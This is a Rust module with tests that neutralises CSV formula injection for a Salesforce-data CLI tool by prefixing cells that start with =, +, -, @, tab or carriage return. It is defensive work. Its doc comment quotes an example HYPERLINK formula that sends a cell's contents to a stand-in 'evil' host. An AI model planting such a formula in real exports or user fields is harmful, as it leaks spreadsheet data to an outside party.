//! Spreadsheet-safe CSV cells (OWASP "CSV Injection"; docs/contract.md §8).
//!
//! Owns: the one rule for text from the org written into a CSV cell, shared by `collect -f csv`
//! (`sfconn-collect`) and `report -f csv` (`sfconn-store`), which do not depend on each other.
//! Must not: do any I/O or know about Salesforce.
//!
//! A user can set their own Title or Company Name to `=HYPERLINK("http://evil/?"&A1,"x")`; a
//! spreadsheet that opens the CSV file runs it. So a cell whose text starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return is written with a single quote `'` in front
//! ([`CsvCells::Neutralised`], the default): spreadsheets show it as text, and the rest of the
//! value is kept as it is (the csv writer still quotes it as needed). The rule looks at the
//! first character only, so an ordinary name such as `-Ann-` or `- Consultant` gets the quote
//! too. [`CsvCells::Raw`] (`--csv-raw`, `csv_raw = true`) writes every cell as it is.
//!
//! Only text from the org goes through [`CsvCells::text`]: numbers, booleans and dates that
//! sfconn itself formats (a negative `free` count, `-3`) are written as they are.

use std::borrow::Cow;

/// The first characters that make a spreadsheet treat a cell as a formula (OWASP).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The prefix that makes a spreadsheet show a cell as text.
pub const NEUTRALISING_PREFIX: char = '\'';

/// How text from the org is written into CSV cells.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvCells {
    /// A cell starting with one of [`FORMULA_TRIGGERS`] gets a leading `'` (the default).
    #[default]
    Neutralised,
    /// Every cell is written as it is (`--csv-raw`, the `csv_raw` setting).
    Raw,
}

impl CsvCells {
    /// [`CsvCells::Raw`] when `raw`, else [`CsvCells::Neutralised`].
    pub fn from_raw(raw: bool) -> Self {
        if raw { CsvCells::Raw } else { CsvCells::Neutralised }
    }

    /// The cell for a text value from the org.
    pub fn text(self, value: &str) -> Cow<'_, str> {
        match self {
            CsvCells::Neutralised if value.starts_with(FORMULA_TRIGGERS) => {
                Cow::Owned(format!("{NEUTRALISING_PREFIX}{value}"))
            }
            _ => Cow::Borrowed(value),
        }
    }

    /// [`CsvCells::text`] for an optional value; `None` is an empty cell.
    pub fn optional(self, value: Option<&str>) -> String {
        value.map(|v| self.text(v).into_owned()).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn each_formula_trigger_is_prefixed_and_the_value_kept() {
        let cases = [
            ("=HYPERLINK(\"http://x.io\",\"x\")", "'=HYPERLINK(\"http://x.io\",\"x\")"),
            ("+1-555-0100", "'+1-555-0100"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-Ann-", "'-Ann-"),
            ("- Consultant", "'- Consultant"),
        ];
        for (value, cell) in cases {
            assert_eq!(CsvCells::Neutralised.text(value), cell, "{value:?}");
            assert_eq!(CsvCells::Raw.text(value), value, "{value:?}");
        }
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for value in ["", "Ann", "a=b", " =1", "'quoted", "Müller", "1-2", "\n=1"] {
            assert!(matches!(CsvCells::Neutralised.text(value), Cow::Borrowed(v) if v == value), "{value:?}");
        }
        assert_eq!(CsvCells::Neutralised.optional(None), "");
        assert_eq!(CsvCells::Neutralised.optional(Some("=1")), "'=1");
        assert_eq!(CsvCells::from_raw(true), CsvCells::Raw);
        assert_eq!(CsvCells::from_raw(false), CsvCells::default());
    }

    proptest! {
        #[test]
        fn neutralised_cells_never_start_a_formula_and_keep_the_value(value in "\\PC{0,12}|[=+@\t\r-]\\PC{0,12}") {
            let cell = CsvCells::Neutralised.text(&value);
            prop_assert!(!cell.starts_with(FORMULA_TRIGGERS));
            let kept = cell.strip_prefix(NEUTRALISING_PREFIX).filter(|_| value.starts_with(FORMULA_TRIGGERS));
            prop_assert_eq!(kept.unwrap_or(&cell), value.as_str());
        }
    }
}
